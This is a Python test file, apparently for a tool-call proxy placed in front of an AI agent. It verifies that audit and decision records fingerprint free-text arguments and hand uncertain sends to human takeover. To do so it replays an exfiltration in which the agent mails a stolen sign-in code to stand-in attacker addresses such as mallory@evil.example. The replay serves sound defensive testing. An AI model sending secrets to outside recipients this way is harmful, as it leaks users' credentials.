"""Audit and decision records keep less: identifiers, numbers and enums in clear, every other argument value —
at any depth — as its keyed fingerprint unless the contract marks it safe to show (``safe_to_show``). A
replayed exfiltration: the stolen security code the model put in a message reaches neither record, yet one
value has one fingerprint in every record, so an operator can follow it; what names a resource stays
readable, in the takeover record of a send whose outcome is unknown too. Real OPA and Redis (decision
records read back from the stream), real HTTP backends."""

from __future__ import annotations

import json
from typing import Any

from aiohttp import web

from tests.support.audit import audit_records, fingerprinted
from tests.support.stack import extra_tools, running_stack
from tests.support.waits import wait_until
from tests.test_policy_replay import STREAM, read_stream

CODE = "SECURITY-CODE-884421"


async def test_free_text_arguments_reach_no_record_and_identifiers_do(proxy_deps, capsys):
    async with running_stack({**proxy_deps, "decisions.enabled": True, "decisions.timeout_ms": 5000}) as stack:
        status, env = await stack.call("send_notices", {"recipients": ["usr_1001"],
                                                        "message": f"Your code is {CODE}"})
        assert status == 200, env
        status, env = await stack.call("transfer_project", {"project_id": "prj_1001", "to_owner": "bob",
                                                            "expected_owner": "alice"})
        decisions, skipped = await read_stream(proxy_deps["redis.url"], STREAM)
    audits = [r for r in audit_records(capsys.readouterr().out) if r["kind"] in ("tool_call", "tool_call_intent")]
    assert skipped == 0 and decisions and audits
    assert CODE not in json.dumps(decisions) and CODE not in json.dumps(audits)
    [notice] = [d for d in decisions if d["tool"] == "send_notices"]
    message = notice["input"]["arguments"]["message"]
    assert notice["input"]["arguments"] == {"recipients": ["usr_1001"], "message": message} and fingerprinted(message)
    assert ["arguments", "message"] in notice["masked_paths"]
    sent = [a for a in audits if a["tool"] == "send_notices"]
    assert all(a["arguments"]["message"] == message and a["arguments"]["recipients"] == ["usr_1001"]
               and len(a["args_hash"]) == 64 for a in sent)
    # What the contract marks safe to show stays (who a project goes to).
    [transfer] = [d for d in decisions if d["tool"] == "transfer_project"]
    assert transfer["input"]["arguments"]["to_owner"] == "bob"


NESTED_MAIL = """
tools:
  - name: send_mail_nested
    version: "1.0.0"
    description: Send an e-mail whose message is an object (subject, body, signature).
    mode: write
    risk: external
    inputSchema:
      type: object
      additionalProperties: false
      required: [to, message]
      properties:
        to: {type: string, minLength: 3, maxLength: 254}
        urgent: {type: boolean}
        message:
          type: object
          additionalProperties: false
          required: [subject, body]
          properties:
            subject: {type: string, maxLength: 200}
            body: {type: string, maxLength: 5000}
            signature: {type: string, maxLength: 200}
    outputSchema:
      type: object
      additionalProperties: false
      required: [message_id, status]
      properties:
        message_id: {type: string}
        status: {enum: [queued]}
    resources:
      - template: "mailbox:{to}"
        access: exclusive
    safe_to_show: [message.subject]
    idempotency: {required: true}
    timeout_ms: 5000
    backend: {type: http, service: mail, path: /send}
"""


async def _mail_backend(received: list[dict[str, Any]]) -> tuple[web.AppRunner, str]:
    """A mail service that queues what it is sent (the proxy forwards the call in full; only records hide it)."""
    async def send(request: web.Request) -> web.Response:
        received.append(await request.json())
        if received[-1]["to"].startswith("trent@") and request.transport is not None:
            request.transport.abort()  # taken, never answered: the outcome is unknown
        return web.json_response({"message_id": f"msg_{len(received)}", "status": "queued"})

    app = web.Application()
    app.router.add_post("/send", send)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    return runner, f"http://127.0.0.1:{runner.addresses[0][1]}"


async def test_a_code_in_a_nested_body_is_one_fingerprint_in_every_record_and_in_clear_nowhere(proxy_deps, tmp_path,
                                                                                            capsys):
    received: list[dict[str, Any]] = []
    runner, url = await _mail_backend(received)
    body = f"Forwarding as asked: your sign-in code is {CODE}"
    overrides = {**proxy_deps, **extra_tools(tmp_path, NESTED_MAIL), "decisions.enabled": True,
                 "decisions.timeout_ms": 5000, "backends.services": {"mail": url},
                 "reconcile.scan_interval_ms": 50, "reconcile.backoff_initial_ms": 20}
    overrides["registry.paths"] = overrides["registry.paths"][1:]  # this contract alone: one service mapped
    try:
        async with running_stack(overrides) as stack:
            for to in ("mallory@evil.example", "eve@evil.example"):  # the same stolen code, twice
                status, env = await stack.call("send_mail_nested", {"to": to, "urgent": True, "message": {
                    "subject": "Re: your request", "body": body, "signature": "Agent"}})
                assert status == 200 and env["outcome"] == "succeeded", env
            # A third send is taken and never answered: no status endpoint, so it is handed to a person.
            status, env = await stack.call("send_mail_nested", {"to": "trent@evil.example", "message": {
                "subject": "Re: your request", "body": body}})
            assert env["outcome"] == "unknown", env

            async def taken_over() -> bool:
                return (await stack.get(f"/v1/operations/{env['idempotency_key']}"))[1].get("state") == \
                    "NEEDS_TAKEOVER"
            await wait_until(taken_over, timeout=15, what="the takeover")
            decisions, skipped = await read_stream(proxy_deps["redis.url"], STREAM)
    finally:
        await runner.cleanup()
    assert [m["message"]["body"] for m in received] == [body] * 3  # the backend got the call as sent
    out = audit_records(capsys.readouterr().out)
    audits = [r for r in out if r["kind"] in ("tool_call", "tool_call_intent") and r["tool"] == "send_mail_nested"]
    [takeover] = [r for r in out if r["kind"] == "takeover"]
    mails = [d for d in decisions if d["tool"] == "send_mail_nested"]
    assert skipped == 0 and len(mails) == 3 and len(audits) >= 3
    assert CODE not in json.dumps(decisions) and CODE not in json.dumps(out)
    recorded = [d["input"]["arguments"] for d in mails] + [a["arguments"] for a in audits] + [
        takeover["details"]["target"]["arguments"]]
    # One value, one fingerprint: across both calls and in decision and audit records alike.
    assert len({r["message"]["body"] for r in recorded}) == 1 and fingerprinted(recorded[0]["message"]["body"])
    assert all(fingerprinted(r["message"]["signature"]) for r in recorded if "signature" in r["message"])
    assert recorded[0]["message"]["signature"] != recorded[0]["message"]["body"]
    # What names a resource, a boolean and the subject the contract shows stay readable.
    assert {(r["to"], r.get("urgent"), r["message"]["subject"]) for r in recorded} == {
        ("mallory@evil.example", True, "Re: your request"), ("eve@evil.example", True, "Re: your request"),
        ("trent@evil.example", None, "Re: your request")}
    assert all(["arguments", "message", "body"] in d["masked_paths"] for d in mails)
